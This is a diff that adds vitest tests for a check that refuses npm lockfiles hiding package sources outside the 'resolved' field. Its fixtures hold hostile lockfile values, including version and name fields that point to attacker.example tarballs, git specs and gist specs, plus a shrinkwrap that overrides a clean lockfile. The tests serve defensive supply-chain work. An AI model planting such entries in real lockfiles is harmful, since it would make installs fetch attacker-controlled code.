@@ -1,5 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { installDeps } from '../../src/evolve/deps.ts';
+import type { Git } from '../../src/evolve/git.ts';
 import { refuseLockfile, trustedOrigins } from '../../src/evolve/lockfile.ts';
+import type { Sandbox } from '../../src/evolve/sandbox.ts';
+import { tempDir } from './helpers.ts';
 
 const v3 = (packages: Record<string, unknown>) => JSON.stringify({ name: 't', lockfileVersion: 3, packages: { '': { name: 't' }, ...packages } });
 const npmjs = (name: string) => ({ version: '1.0.0', resolved: `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, integrity: 'sha512-x' });
@@ -36,5 +40,54 @@ describe('the lockfile check before a networked npm ci', () => {
 
   it('refuses a lockfile that is not JSON', () => {
     expect(refuseLockfile('{nope', trustedOrigins(null))).toBe('the lockfile is not valid JSON');
+  });
+});
+
+// npm ci fetches an entry without `resolved` as `<name>@<version>` (arborist's reify): a URL or a git spec in either
+// goes wherever it points. Both were proved against npm 11 with a local server before the check looked at them.
+describe('sources hidden outside `resolved`', () => {
+  const trusted = trustedOrigins(null);
+
+  it('refuses a version that is a URL, a git spec or a github shorthand (v3 and v1)', () => {
+    expect(refuseLockfile(v3({ 'node_modules/foo': { version: 'https://attacker.example/leak.tgz' } }), trusted)).toMatch(/node_modules\/foo from https:\/\/attacker\.example,/);
+    expect(refuseLockfile(v3({ 'node_modules/foo': { version: 'someone/thing#deadbeef' } }), trusted)).toMatch(/node_modules\/foo/);
+    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { foo: { version: 'someone/thing#deadbeef' } } });
+    expect(refuseLockfile(v1, trusted)).toMatch(/foo from "someone\/thing/);
+  });
+
+  it('refuses a name that carries a spec (name@url), in the entry or in its path', () => {
+    expect(refuseLockfile(v3({ 'node_modules/foo': { name: 'foo@https://attacker.example/leak.tgz#', version: '1.0.0' } }), trusted)).toMatch(/node_modules\/foo/);
+    expect(refuseLockfile(v3({ 'node_modules/foo@gist:abc': npmjs('foo') }), trusted)).toMatch(/gist/);
+  });
+
+  it('still allows registry versions, npm: aliases, bundled entries and workspace folders', () => {
+    expect(refuseLockfile(v3({
+      'node_modules/a': { version: '1.2.3-beta.1' },
+      'node_modules/alias': { name: 'zod', version: '3.0.0', resolved: 'https://registry.npmjs.org/zod/-/zod-3.0.0.tgz' },
+      'node_modules/@scope/b': { version: '2.0.0', inBundle: true },
+      'node_modules/a/node_modules/c': { version: '0.1.0' },
+      'packages/local': { name: 'local', version: '0.0.0' },
+    }), trusted)).toBeNull();
+    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { a: { version: 'npm:zod@3.0.0' }, b: { version: '1.0.0', bundled: true } } });
+    expect(refuseLockfile(v1, trusted)).toBeNull();
+  });
+});
+
+describe('every lockfile npm could use is checked', () => {
+  it('refuses an npm-shrinkwrap.json beside a clean package-lock.json (npm ci prefers the shrinkwrap)', async () => {
+    const files: Record<string, Record<string, string>> = {
+      parent: { 'package.json': '{"name":"t"}', 'package-lock.json': v3({}) },
+      child: {
+        'package.json': '{"name":"t"}',
+        'package-lock.json': v3({ 'node_modules/zod': npmjs('zod') }),
+        'npm-shrinkwrap.json': v3({ 'node_modules/zod': { version: '1.0.0', resolved: 'https://attacker.example/c2VjcmV0.tgz' } }),
+      },
+    };
+    const git = { readFile: async (sha: string, file: string) => files[sha]?.[file] ?? null } as unknown as Git;
+    let ran = 0;
+    const sandbox = { kind: 'none', limits: 'none', run: async () => { ran++; throw new Error('npm must not run'); } } as unknown as Sandbox;
+    const out = await installDeps(git, sandbox, 'child', 'parent', `${tempDir('evolve-deps-')}/deps`, 10_000);
+    expect(ran).toBe(0);
+    expect(out.refused).toMatch(/npm-shrinkwrap\.json.*attacker\.example|attacker\.example.*npm-shrinkwrap/);
   });
 });
